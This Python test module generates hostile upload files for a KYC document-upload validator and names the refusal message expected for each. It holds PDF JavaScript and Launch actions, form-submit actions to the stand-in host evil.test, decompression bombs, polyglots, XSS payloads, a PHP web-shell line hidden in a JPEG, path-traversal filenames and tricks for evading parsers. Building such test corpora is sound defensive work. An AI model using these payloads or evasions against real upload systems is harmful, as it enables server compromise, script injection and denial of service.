"""The hostile corpus: files an attacker (or a broken scanner) would upload, generated here rather
than committed, each with the words of the refusal the upload page must show.

``HOSTILE`` rows are (id, file name, a function that makes the bytes, the refusal's words). The
bytes are made on demand and cached: a few are bombs that take a second to build.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache

from PIL import Image

from tests.kyc.files import JPEG, PNG, TIFF
from tests.kyc.pdf_writer import A85, AHX, FLATE, LZW, PNG_UP, RL, document, lzw_pack, stream

MiB = 1 << 20

ACTIVE = "This PDF contains active content"
BOMB = "decompression bomb"
DAMAGED_PDF = "This PDF is damaged or incomplete"
TOO_COMPLEX = "too complex to check"
NOT_A_TYPE = "not a PDF, JPEG, PNG or TIFF"
ONLY = "Only PDF, JPEG, PNG and TIFF files are accepted"
PIXELS = "too large in pixels"
DAMAGED_IMAGE = "damaged or not really an image"
PAGES = "has several pages or frames"
ACCENTS = "accents stacked on one letter"


@dataclass(frozen=True)
class Hostile:
    id: str
    name: str
    make: Callable[[], bytes]
    reason: str

    @property
    def data(self) -> bytes:
        return _made(self.make)


@cache
def _made(make: Callable[[], bytes]) -> bytes:
    return make()


def deflated_zeros(size: int, level: int = 9) -> bytes:
    """``size`` zero bytes deflated, without ever holding them (a bomb is built in small steps)."""
    compressor, chunk, out = zlib.compressobj(level), bytes(MiB), bytearray()
    for _ in range(size // MiB):
        out += compressor.compress(chunk)
    return bytes(out + compressor.compress(bytes(size % MiB)) + compressor.flush())


def raw_stream(dictionary: bytes, encoded: bytes) -> bytes:
    """A stream whose bytes are already encoded (``dictionary`` names the filters)."""
    return b"<< " + dictionary + b" /Length %d >>\nstream\n" % len(encoded) + encoded + b"\nendstream"


# --- active content: the catalog, a page or an object 5 carries it --------------------------------

JS_ACTION = b"<< /S /JavaScript /JS (app.alert\\(document.cookie\\)) >>"
ACTIVE_PARTS: dict[str, dict] = {
    "openaction-js": {"catalog": b"/OpenAction 5 0 R ", "extra": {5: JS_ACTION}},
    "names-javascript": {
        "catalog": b"/Names << /JavaScript 5 0 R >> ",
        "extra": {5: b"<< /Names [(init) 6 0 R] >>", 6: JS_ACTION},
    },
    "page-aa-js": {"page": b"/AA << /O 5 0 R >> ", "extra": {5: JS_ACTION}},
    "launch": {"catalog": b"/OpenAction 5 0 R ", "extra": {5: b"<< /S /Launch /F (cmd.exe) >>"}},
    "embedded-file": {
        "catalog": b"/Names << /EmbeddedFiles 5 0 R >> ",
        "extra": {
            5: b"<< /Names [(invoice.exe) 6 0 R] >>",
            6: b"<< /Type /Filespec /F (invoice.exe) /EF << /F 7 0 R >> >>",
            7: stream(b"/Type /EmbeddedFile", b"MZ\x90\x00 not a real program"),
        },
    },
    "richmedia": {"page": b"/Annots [5 0 R] ", "extra": {5: b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>"}},
    "xfa": {"catalog": b"/AcroForm 5 0 R ", "extra": {5: b"<< /Fields [] /XFA 6 0 R >>", 6: stream(b"", b"<xdp/>")}},
    "uri-link": {
        "page": b"/Annots [5 0 R] ",
        "extra": {
            5: b"<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /URI /URI (https://evil.test/) >> >>"
        },
    },
    "submit-form": {
        "catalog": b"/AcroForm << /Fields [5 0 R] >> ",
        "page": b"/Annots [5 0 R] ",
        "extra": {
            5: b"<< /Type /Annot /Subtype /Widget /FT /Btn /T (send) /Rect [0 0 9 9] "
            b"/A << /S /SubmitForm /F << /FS /URL /F (https://evil.test/collect) >> >> >>"
        },
    },
    "js-in-a-stream": {
        "catalog": b"/OpenAction 5 0 R ",
        "extra": {5: b"<< /S /JavaScript /JS 6 0 R >>", 6: stream(b"", b"app.launchURL('https://evil.test/');")},
    },
    "escaped-name": {"catalog": b"/OpenAction 5 0 R ", "extra": {5: b"<< /S /#4Aava#53cript /#4AS (app.alert(1)) >>"}},
    "remote-goto": {
        "catalog": b"/OpenAction 5 0 R ",
        "extra": {5: b"<< /S /GoToR /F (\\\\\\\\evil.test\\\\share\\\\x.pdf) >>"},
    },
    "import-data": {"catalog": b"/OpenAction 5 0 R ", "extra": {5: b"<< /S /ImportData /F (data.fdf) >>"}},
    "remote-thread": {  # an article-thread action whose file is a web address
        "page": b"/Annots [5 0 R] ",
        "extra": {
            5: b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] "
            b"/A << /S /Thread /F << /FS /URL /F (https://evil.test/x.pdf) >> /D 0 >> >>"
        },
    },
    "postscript-xobject": {  # PostScript that printers run
        "page": b"/Resources << /XObject << /P 5 0 R >> >> ",
        "extra": {5: stream(b"/Type /XObject /Subtype /PS", b"%!PS\nshowpage")},
    },
}


def active_pdf(kind: str, *, packed_filters: tuple[str, ...] | None = None, xref_stream: bool = False) -> bytes:
    """A document carrying ``kind``; with ``packed_filters``, its dictionaries (not its streams,
    which cannot be) packed in an object stream encoded with those filters."""
    parts = ACTIVE_PARTS[kind]
    pdf = document(parts.get("catalog", b""), parts.get("page", b""), parts.get("extra"), xref_stream=xref_stream)
    if packed_filters is not None:
        pdf.packed = {number for number, text in pdf.objects.items() if b"stream\n" not in text}
        pdf.packed_filters = packed_filters
    return pdf.build()


def incremental_update() -> bytes:
    """A clean document, then an incremental update whose new catalog runs a script."""
    first = document().build()
    start = len(first)
    catalog = b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>\nendobj\n"
    action = b"5 0 obj\n" + JS_ACTION + b"\nendobj\n"
    xref_at = start + len(catalog) + len(action)
    previous = int(first.rsplit(b"startxref\n", 1)[1].split(b"\n")[0])
    table = b"xref\n1 1\n%010d 00000 n \n5 1\n%010d 00000 n \n" % (start, start + len(catalog))
    trailer = b"trailer\n<< /Size 7 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (previous, xref_at)
    return first + catalog + action + table + trailer


def unlisted_object() -> bytes:
    """A script in an object the cross-reference table leaves out (a reader that repairs the
    file finds it; the check must too)."""
    clean = document().build()
    hidden = b"9 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\nendobj\n"
    at = clean.index(b"xref\n")
    shifted = clean[:at] + hidden + clean[at:]
    return shifted.replace(b"startxref\n%d" % at, b"startxref\n%d" % (at + len(hidden)))


def unparseable_unlisted_object() -> bytes:
    """An unlisted catalog with a script and a syntax error pypdf will not read past (a more
    tolerant reader might)."""
    clean = document().build()
    hidden = b"9 0 obj\n<< /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> /Oops ] >>\nendobj\n"
    at = clean.index(b"xref\n")
    return (clean[:at] + hidden + clean[at:]).replace(b"startxref\n%d" % at, b"startxref\n%d" % (at + len(hidden)))


def unparseable_listed_object() -> bytes:
    """A listed object, never referenced, with a script and broken syntax."""
    return document(extra={5: b"<< /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> ]] >>"}).build()


def encrypted() -> bytes:
    return document(
        extra={5: b"<< /Filter /Standard /V 1 /R 2 /O (0123456789abcdef0123456789abcdef) /U (x) /P -4 >>"},
        trailer=b" /Encrypt 5 0 R /ID [<00112233445566778899aabbccddeeff> <00112233445566778899aabbccddeeff>]",
    ).build()


# --- bombs --------------------------------------------------------------------------------------


def flate_bomb() -> bytes:
    """A ~510 KB page whose content inflates to 512 MiB (the file of the issue)."""
    pdf = document()
    pdf.objects[4] = raw_stream(b"/Filter /FlateDecode", deflated_zeros(512 * MiB))
    return pdf.build()


def object_stream_bomb() -> bytes:
    """An object stream (the container of the dictionaries) that inflates to 256 MiB."""
    pdf = document(xref_stream=True)
    pdf.objects[5] = raw_stream(b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", deflated_zeros(256 * MiB))
    return pdf.build()


def many_streams_bomb() -> bytes:
    """A hundred images of 40 MiB each: every one under the limit of one stream, 4 GiB in all."""
    image = deflated_zeros(40 * MiB)
    xobjects = b" ".join(b"/Im%d %d 0 R" % (n, n) for n in range(5, 105))
    pdf = document(page=b"/Resources << /XObject << " + xobjects + b" >> >> ")
    for number in range(5, 105):
        pdf.objects[number] = raw_stream(
            b"/Type /XObject /Subtype /Image /Width 4096 /Height 3413 /ColorSpace /DeviceRGB "
            b"/BitsPerComponent 8 /Filter /FlateDecode",
            image,
        )
    return pdf.build()


def lzw_bomb() -> bytes:
    """LZW of zeros written code by code: each 5.6 KB table of codes unpacks to 7.4 MB."""
    cycle = [256, 0, *range(258, 4094)]
    codes = cycle * 16 + [257]
    pdf = document()
    pdf.objects[4] = raw_stream(b"/Filter /LZWDecode", lzw_pack(codes))
    return pdf.build()


def run_length_bomb() -> bytes:
    """Run-length at its best ratio: 2 bytes say 128 zeros; 1.6 MB say 100 MiB."""
    pdf = document()
    pdf.objects[4] = raw_stream(b"/Filter /RunLengthDecode", b"\x81\x00" * (800 * 1024) + b"\x80")
    return pdf.build()


def ascii85_bomb() -> bytes:
    """Deflated ASCII85 of 'z' only: 40 MiB of z inflate from 40 KB, then each z is 4 zeros."""
    pdf = document()
    compressor = zlib.compressobj(9)
    encoded = b"".join(compressor.compress(b"z" * MiB) for _ in range(40)) + compressor.compress(b"~>")
    pdf.objects[4] = raw_stream(b"/Filter [/FlateDecode /ASCII85Decode]", encoded + compressor.flush())
    return pdf.build()


def predictor_bomb() -> bytes:
    """A PNG predictor claiming rows of a billion columns."""
    pdf = document()
    pdf.objects[4] = raw_stream(
        b"/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 1000000000 /Colors 4 >>",
        zlib.compress(b"\x02" + bytes(1000)),
    )
    return pdf.build()


def deep_nesting() -> bytes:
    return document(extra={5: b"[" * 100_000 + b"]" * 100_000}, catalog=b"/Nest 5 0 R ").build()


def many_objects() -> bytes:
    """Ninety thousand tiny objects: each cheap, together many seconds of parsing."""
    pdf = document()
    for number in range(5, 90_005):
        pdf.objects[number] = b"null"
    return pdf.build()


def truncated_pdf() -> bytes:
    whole = active_pdf("openaction-js", packed_filters=(FLATE,))
    return whole[: len(whole) // 2]


def pdf_with_zip_glued() -> bytes:
    return document().build() + zip_file()


def pdf_with_html() -> bytes:
    pdf = document()
    pdf.objects[4] = stream(b"", b"<html><body><script>fetch('/admin')</script></body></html>")
    return pdf.build()


def jpeg_then_pdf() -> bytes:
    """A PDF behind a JPEG header: a JPEG to the sniffer, a PDF to a lenient reader."""
    return JPEG + active_pdf("openaction-js")


# --- the second outside test: tricks that hid from the first check ------------------------------


def listed_pdf(objects: dict[int, bytes], headers: dict[int, bytes] | None = None) -> bytes:
    """A classic one-revision PDF written object by object, ``headers`` replacing some objects'
    ``n 0 obj`` (the tester's writer: a comment inside a header hides the object from pypdf)."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += (headers or {}).get(number, b"%d 0 obj" % number) + b"\n" + objects[number] + b"\nendobj\n"
    start, size = len(out), max(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += b"%010d 00000 n \n" % offsets[number] if number in offsets else b"0000000000 65535 f \n"
    return bytes(out + b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, start))


PLAIN = {
    1: b"<< /Type /Catalog /Pages 2 0 R >>",
    2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
    4: stream(b"", b"BT (Hello) Tj ET", ()),
}
PAGE_WITH_LINK = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Annots [5 0 R] >>"
PAGE_WITH_IMAGE = (
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /XObject << /I 5 0 R >> >> >>"
)


def plain_with(**objects: bytes) -> dict[int, bytes]:
    """``PLAIN`` with objects replaced or added: ``o5=...`` is object 5."""
    return {**PLAIN, **{int(key[1:]): value for key, value in objects.items()}}


def commented_header(number: int) -> bytes:
    return b"%d 0%%x\nobj" % number


COMMENTED_HEADERS = {
    "openaction": (
        plain_with(o1=b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>", o5=JS_ACTION),
        {1: commented_header(1), 5: commented_header(5)},
    ),
    "names-javascript": (
        plain_with(
            o1=b"<< /Type /Catalog /Pages 2 0 R /Names 5 0 R >>",
            o5=b"<< /JavaScript << /Names [(a) " + JS_ACTION + b"] >> >>",
        ),
        {5: commented_header(5)},
    ),
    "page-aa": (
        plain_with(
            o3=b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /AA << /O "
            + JS_ACTION
            + b" >> >>"
        ),
        {3: commented_header(3)},
    ),
    "uri-link": (
        plain_with(
            o3=PAGE_WITH_LINK,
            o5=b"<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /URI /URI (https://evil.test/) >> >>",
        ),
        {5: commented_header(5)},
    ),
}


def commented_header_in_update() -> bytes:
    """A clean document, then an incremental update whose catalog (header with a comment) runs a script."""
    first = listed_pdf(PLAIN)
    catalog = b"1 0%c\nobj\n<< /Type /Catalog /Pages 2 0 R /OpenAction " + JS_ACTION + b" >>\nendobj\n"
    previous = int(first.rsplit(b"startxref\n", 1)[1].split(b"\n")[0])
    table = b"xref\n1 1\n%010d 00000 n \n" % len(first)
    trailer = b"trailer\n<< /Size 5 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        previous,
        len(first) + len(catalog),
    )
    return first + catalog + table + trailer


def object_stream_typed_by_reference() -> bytes:
    """An object stream whose /Type is a reference to the name /ObjStm (a viewer resolves it)."""
    pdf = document(b"/OpenAction 5 0 R ", b"", {5: JS_ACTION, 6: b"/ObjStm"})
    pdf.packed, pdf.packed_filters = {1, 5}, (FLATE,)
    return pdf.build().replace(b"/Type /ObjStm", b"/Type 6 0 R  ")


DUPLICATE_KEYS = {
    "launch": b"<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /GoTo /D [3 0 R /Fit] "
    b"/S /Launch /F (cmd.exe) >> >>",
    "gotor": b"<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /GoTo /D [3 0 R /Fit] /S /GoToR "
    b"/F (\\\\\\\\evil.test\\\\s\\\\x.pdf) /D [0 /Fit] >> >>",
    "submit-form": b"<< /Type /Annot /Subtype /Widget /FT /Btn /T (x) /Rect [0 0 612 792] "
    b"/A << /S /GoTo /D [3 0 R /Fit] /S /SubmitForm /F << /FS /URL /F (https://evil.test/c) >> >> >>",
}


def duplicate_key(kind: str) -> bytes:
    catalog = (
        b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [5 0 R] >> >>" if kind == "submit-form" else PLAIN[1]
    )
    return listed_pdf(plain_with(o1=catalog, o3=PAGE_WITH_LINK, o5=DUPLICATE_KEYS[kind]))


def image_pdf(dictionary: bytes, data: bytes, **objects: bytes) -> bytes:
    """A page drawing image 5 (``dictionary`` after /Subtype /Image), its bytes ``data`` as they are."""
    image = raw_stream(b"/Type /XObject /Subtype /Image " + dictionary, data)
    return listed_pdf(
        plain_with(o3=PAGE_WITH_IMAGE, o4=stream(b"", b"q 100 0 0 100 0 0 cm /I Do Q", ()), o5=image, **objects)
    )


def jpx_codestream(width: int, height: int) -> bytes:
    """A JPEG 2000 codestream's start (SOC, SIZ) declaring ``width`` × ``height``."""
    siz = struct.pack(">HHHIIIIIIIIH", 0xFF51, 41, 0, width, height, 0, 0, width, height, 0, 0, 1) + bytes([7, 1, 1])
    return b"\xff\x4f" + siz + b"\xff\xd9"


def jbig2_page(width: int, height: int) -> bytes:
    """An embedded JBIG2 stream's page information segment (type 48) declaring ``width`` × ``height``."""
    header = struct.pack(">IBBBI", 0, 48, 0, 1, 19)
    return header + struct.pack(">IIIIBH", width, height, 0, 0, 0, 0)


def small_jpeg_claiming(width: int, height: int) -> bytes:
    out = io.BytesIO()
    Image.new("L", (8, 8)).save(out, format="JPEG")
    data = out.getvalue()
    at = data.index(b"\xff\xc0")
    return data[: at + 5] + struct.pack(">HH", height, width) + data[at + 9 :]


GREY = b"/ColorSpace /DeviceGray /BitsPerComponent 8 "


# --- images -------------------------------------------------------------------------------------


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_bomb() -> bytes:
    """A real 1-bit PNG of 30,000 × 30,000 white pixels (900 megapixels) in ~100 KB."""
    width = height = 30_000
    row = b"\x00" + bytes(width // 8)
    compressor = zlib.compressobj(9)
    rows = b"".join(compressor.compress(row * 1000) for _ in range(height // 1000)) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header) + png_chunk(b"IDAT", rows) + png_chunk(b"IEND", b"")


def png_claiming(width: int, height: int) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    idat = zlib.compress(b"\x00" + bytes(3 * 16))
    return b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header) + png_chunk(b"IDAT", idat) + png_chunk(b"IEND", b"")


def png_text_bomb() -> bytes:
    """A valid PNG carrying a compressed text chunk that inflates to 64 MiB."""
    text = b"Comment\x00\x00" + deflated_zeros(64 * MiB)
    return PNG[:-12] + png_chunk(b"zTXt", text) + PNG[-12:]


def apng() -> bytes:
    """An animated PNG: only its first frame would be kept, so it is refused."""
    out = io.BytesIO()
    frames = [Image.new("RGB", (64, 48), colour) for colour in ("red", "blue", "green")]
    frames[0].save(out, format="PNG", save_all=True, append_images=frames[1:])
    return out.getvalue()


def jpeg_claiming(width: int, height: int) -> bytes:
    """The small test JPEG with its frame header saying ``width`` × ``height``."""
    at = JPEG.index(b"\xff\xc0")
    return JPEG[: at + 5] + struct.pack(">HH", height, width) + JPEG[at + 9 :]


def tiff_claiming(width: int, height: int, *, strip_at: int | None = None) -> bytes:
    """A little-endian TIFF, one strip of 8-bit grey, whose IFD says ``width`` × ``height``;
    ``strip_at``: where it says the pixels are (by default right after the IFD)."""
    entries = [
        (256, 4, width),  # ImageWidth
        (257, 4, height),  # ImageLength
        (258, 3, 8),  # BitsPerSample
        (259, 3, 1),  # Compression: none
        (262, 3, 1),  # Photometric: black is zero
        (273, 4, strip_at or 8 + 2 + 12 * 8 + 4),  # StripOffsets
        (278, 4, height),  # RowsPerStrip
        (279, 4, 64),  # StripByteCounts
    ]
    ifd = struct.pack("<H", len(entries)) + b"".join(
        struct.pack("<HHII", tag, kind, 1, value) for tag, kind, value in entries
    )
    return b"II*\x00" + struct.pack("<I", 8) + ifd + struct.pack("<I", 0) + bytes(64)


def two_page_tiff() -> bytes:
    """Two pages: only the first would be kept."""
    out = io.BytesIO()
    Image.new("L", (64, 48), 200).save(out, format="TIFF", save_all=True, append_images=[Image.new("L", (32, 32))])
    return out.getvalue()


def gif() -> bytes:
    out = io.BytesIO()
    Image.new("P", (16, 16)).save(out, format="GIF")
    return out.getvalue()


# --- polyglots and others -----------------------------------------------------------------------


def zip_file(office: bool = False) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        if office:
            archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
            archive.writestr("word/vbaProject.bin", b'Attribute VB_Name = "AutoOpen"')
        else:
            archive.writestr("payload.exe", b"MZ\x90\x00")
    return out.getvalue()


HTML = b"<!DOCTYPE html><html><body><script>fetch('/api/customers').then(r=>r.text())</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><rect width="9" height="9"/></svg>'
LONG = "p" * 251  # with ".pdf", 255 characters: the most a browser sends


def _filters_id(filters: tuple[str, ...]) -> str:
    return "+".join(name.strip("/").removesuffix("Decode").lower() for name in filters) or "none"


OBJECT_STREAM_FILTERS = [(FLATE,), (AHX,), (A85, FLATE), (PNG_UP,), (LZW,), (RL,), (), (AHX, LZW), (A85,)]

HOSTILE: list[Hostile] = [
    *[Hostile(f"pdf-{kind}", f"{kind}.pdf", lambda kind=kind: active_pdf(kind), ACTIVE) for kind in ACTIVE_PARTS],
    *[
        Hostile(
            f"pdf-openaction-js-in-object-stream-{_filters_id(filters)}",
            "statement.pdf",
            lambda filters=filters: active_pdf("openaction-js", packed_filters=filters),
            ACTIVE,
        )
        for filters in OBJECT_STREAM_FILTERS
    ],
    *[
        Hostile(
            f"pdf-{kind}-in-object-stream-{_filters_id(filters)}",
            "statement.pdf",
            lambda kind=kind, filters=filters: active_pdf(kind, packed_filters=filters),
            ACTIVE,
        )
        for kind, filters in [
            ("launch", (A85, FLATE)),
            ("embedded-file", (AHX,)),
            ("uri-link", (PNG_UP,)),
            ("submit-form", (LZW,)),
            ("xfa", (RL,)),
            ("page-aa-js", (FLATE,)),
            ("names-javascript", (AHX, FLATE)),
            ("escaped-name", (A85,)),
        ]
    ],
    Hostile("pdf-js-with-xref-stream", "scan.pdf", lambda: active_pdf("openaction-js", xref_stream=True), ACTIVE),
    Hostile("pdf-js-in-incremental-update", "scan.pdf", incremental_update, ACTIVE),
    Hostile("pdf-js-in-unlisted-object", "scan.pdf", unlisted_object, ACTIVE),
    Hostile("pdf-js-in-unparseable-unlisted-object", "scan.pdf", unparseable_unlisted_object, ACTIVE),
    Hostile("pdf-js-in-unparseable-listed-object", "scan.pdf", unparseable_listed_object, ACTIVE),
    *[
        Hostile(
            f"pdf-comment-in-header-{kind}", "scan.pdf", lambda kind=kind: listed_pdf(*COMMENTED_HEADERS[kind]), ACTIVE
        )
        for kind in COMMENTED_HEADERS
    ],
    Hostile("pdf-comment-in-header-in-update", "scan.pdf", commented_header_in_update, ACTIVE),
    Hostile(
        "pdf-listed-object-unreadable",
        "scan.pdf",
        lambda: listed_pdf(plain_with(o5=b"<< /Producer (x) >>"), headers={5: b"x5 0 obj"}),
        DAMAGED_PDF,
    ),
    Hostile("pdf-object-stream-typed-by-reference", "scan.pdf", object_stream_typed_by_reference, ACTIVE),
    *[
        Hostile(f"pdf-duplicate-key-{kind}", "scan.pdf", lambda kind=kind: duplicate_key(kind), "the same key twice")
        for kind in DUPLICATE_KEYS
    ],
    Hostile(
        "pdf-image-size-by-reference",
        "scan.pdf",
        lambda: image_pdf(b"/Width 6 0 R /Height 6 0 R " + GREY + b"/Filter /DCTDecode", bytes(16), o6=b"100000"),
        PIXELS,
    ),
    Hostile(
        "pdf-jpx-codestream-too-large",
        "scan.pdf",
        lambda: image_pdf(b"/Filter /JPXDecode", jpx_codestream(100_000, 100_000)),
        PIXELS,
    ),
    Hostile(
        "pdf-jpeg-frame-too-large",
        "scan.pdf",
        lambda: image_pdf(b"/Width 8 /Height 8 " + GREY + b"/Filter /DCTDecode", small_jpeg_claiming(65_000, 65_000)),
        PIXELS,
    ),
    Hostile(
        "pdf-jbig2-page-too-large",
        "scan.pdf",
        lambda: image_pdf(b"/Width 8 /Height 8 /BitsPerComponent 1 /Filter /JBIG2Decode", jbig2_page(200_000, 200_000)),
        PIXELS,
    ),
    Hostile(
        "pdf-html-image-after-header",
        "scan.pdf",
        lambda: b"%PDF-1.4\n<img src=x onerror=alert(document.domain)>\n" + listed_pdf(PLAIN)[9:],
        "hides a web page or a script",
    ),
    Hostile(
        "pdf-html-event-handler-after-header",
        "scan.pdf",
        lambda: b"%PDF-1.4\n<details open ontoggle=alert(1)>\n" + listed_pdf(PLAIN)[9:],
        "hides a web page or a script",
    ),
    Hostile(
        "pdf-html-javascript-link-after-header",
        "scan.pdf",
        lambda: b"%PDF-1.4\n<a href=' javascript&#58;alert(1)'>x</a>\n" + listed_pdf(PLAIN)[9:],
        "hides a web page or a script",
    ),
    Hostile("pdf-encrypted", "locked.pdf", encrypted, "protected by a password"),
    Hostile("pdf-flate-bomb", "bomb.pdf", flate_bomb, BOMB),
    Hostile("pdf-object-stream-bomb", "bomb.pdf", object_stream_bomb, BOMB),
    Hostile("pdf-many-streams-bomb", "bomb.pdf", many_streams_bomb, BOMB),
    Hostile("pdf-lzw-bomb", "bomb.pdf", lzw_bomb, BOMB),
    Hostile("pdf-run-length-bomb", "bomb.pdf", run_length_bomb, BOMB),
    Hostile("pdf-ascii85-bomb", "bomb.pdf", ascii85_bomb, BOMB),
    Hostile("pdf-predictor-bomb", "bomb.pdf", predictor_bomb, BOMB),
    Hostile("pdf-deep-nesting", "deep.pdf", deep_nesting, TOO_COMPLEX),
    Hostile("pdf-many-objects", "many.pdf", many_objects, TOO_COMPLEX),
    Hostile("pdf-truncated", "cut.pdf", truncated_pdf, DAMAGED_PDF),
    Hostile("pdf-zip-glued", "statement.pdf", pdf_with_zip_glued, "Another file is glued after this PDF"),
    Hostile("pdf-hiding-html", "statement.pdf", pdf_with_html, "hides a web page or a script"),
    Hostile("pdf-behind-jpeg-header-as-pdf", "scan.pdf", jpeg_then_pdf, "named .pdf but its content is JPEG"),
    Hostile("pdf-behind-jpeg-header-as-jpg", "scan.jpg", jpeg_then_pdf, "Another file is glued after this image"),
    Hostile("png-bomb", "selfie.png", png_bomb, PIXELS),
    Hostile("png-claiming-2-gigapixels", "selfie.png", lambda: png_claiming(50_000, 50_000), PIXELS),
    Hostile("png-text-bomb", "selfie.png", png_text_bomb, DAMAGED_IMAGE),
    Hostile("png-animated", "selfie.png", apng, PAGES),
    Hostile("jpeg-claiming-4-gigapixels", "photo.jpg", lambda: jpeg_claiming(65_000, 65_000), PIXELS),
    Hostile("tiff-claiming-10-gigapixels", "scan.tif", lambda: tiff_claiming(100_000, 100_000), PIXELS),
    Hostile("tiff-two-pages", "scan.tiff", two_page_tiff, PAGES),
    Hostile("tiff-pixels-past-the-end", "scan.tif", lambda: tiff_claiming(8, 8, strip_at=1 << 30), DAMAGED_IMAGE),
    Hostile("gif-named-png", "photo.png", gif, NOT_A_TYPE),
    Hostile("gif", "photo.gif", gif, ONLY),
    Hostile("html-named-pdf", "statement.pdf", lambda: HTML, NOT_A_TYPE),
    Hostile("html-named-jpg", "photo.jpg", lambda: HTML, NOT_A_TYPE),
    Hostile("javascript-named-jpg", "photo.jpg", lambda: b"fetch('/admin').then(r => r.text())", NOT_A_TYPE),
    Hostile("svg-named-png", "logo.png", lambda: SVG, NOT_A_TYPE),
    Hostile("svg", "logo.svg", lambda: SVG, ONLY),
    Hostile("zip-named-pdf", "statement.pdf", zip_file, NOT_A_TYPE),
    Hostile("office-named-pdf", "statement.pdf", lambda: zip_file(office=True), NOT_A_TYPE),
    Hostile("office-document", "statement.docm", lambda: zip_file(office=True), ONLY),
    Hostile("png-with-zip-glued", "photo.png", lambda: PNG + zip_file(), "Another file is glued after this image"),
    Hostile("png-with-script", "photo.png", lambda: PNG + b"<script>alert(1)</script>", "hides a web page or a script"),
    Hostile(
        "jpeg-with-php",
        "photo.jpg",
        lambda: JPEG[:-2] + b"<?php system($_GET['c']); ?>" + JPEG[-2:],
        "hides a web page",
    ),
    Hostile("empty", "empty.pdf", lambda: b"", "file is empty."),
    Hostile("truncated-png", "photo.png", lambda: PNG[:60], DAMAGED_IMAGE),
    Hostile("truncated-jpeg", "photo.jpg", lambda: JPEG[:200], DAMAGED_IMAGE),
    Hostile("truncated-tiff", "scan.tif", lambda: TIFF[:100], DAMAGED_IMAGE),
    Hostile("oversize", "big.pdf", lambda: b"%PDF-1.7\n" + bytes(4_718_592) + b"%%EOF\n", "at most 4.5 MB"),
    Hostile("odd-case-extension", "EVIL.PdF", lambda: active_pdf("openaction-js"), ACTIVE),
    Hostile("double-extension-exe", "passport.pdf.exe", lambda: active_pdf("launch"), ONLY),
    Hostile("double-extension-html", "passport.jpg.html", lambda: HTML, ONLY),
    Hostile("double-extension-disagreeing", "passport.png.pdf", lambda: PNG, "named .pdf but its content is PNG"),
    Hostile("name-of-255-characters", f"{LONG}.pdf", lambda: active_pdf("openaction-js"), ACTIVE),
    Hostile("name-of-230-characters-bomb", f"{LONG[:226]}.pdf", flate_bomb, BOMB),
    Hostile("name-with-nul", "passport\x00.php", lambda: PNG, ONLY),
    Hostile("name-with-path-traversal", "../../../../var/www/html/shell.php", lambda: PNG, ONLY),
    Hostile("name-with-windows-traversal", "..\\..\\web.config", lambda: PNG, ONLY),
    Hostile("name-with-rtl-override", "invoice\u202egnp.exe", lambda: PNG, ONLY),
    Hostile("name-with-rtl-override-and-script", "scan\u202efdp.pdf", lambda: active_pdf("js-in-a-stream"), ACTIVE),
    Hostile("name-with-190-combining-accents", "a" + "\u0301" * 190 + ".pdf", lambda: listed_pdf(PLAIN), ACCENTS),
]
